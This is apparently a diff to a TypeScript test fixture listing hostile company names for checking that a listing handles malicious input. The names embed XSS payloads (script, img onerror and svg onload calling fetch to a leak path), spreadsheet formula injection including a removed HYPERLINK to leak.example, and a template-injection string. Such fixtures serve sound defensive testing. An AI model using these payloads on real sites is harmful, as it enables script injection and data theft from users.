@@ -10,10 +10,10 @@ const attack = (how: string) => `<img src="${LEAK_PATH}?${how}" onerror="fetch('
 export const hostileNames = [
   `Acme ${attack('name')} Ltd`,
   `<script>fetch('${LEAK_PATH}?script')</script> Holdings Inc.`,
-  `=HYPERLINK("http://leak.example/","Open") Shipping Ltd`,
-  `"><svg onload=fetch('${LEAK_PATH}?svg')> Partners Ltd`,
-  '@SUM(1+1) Trading Company Ltd',
-  '{{constructor.constructor("return 1")()}} Logistics Ltd',
+  '=Mallory Shipping Ltd',
+  `Mallory & Sons "><svg onload=fetch('${LEAK_PATH}?svg')>`,
+  '@Mallory Trading Company',
+  'Mallory {{constructor.constructor("return 1")()}} Logistics GmbH',
 ] as const;
 
 /** A listing that looks ordinary and is not: markup in names, script links, broken and poisoned JSON-LD, endless values. */
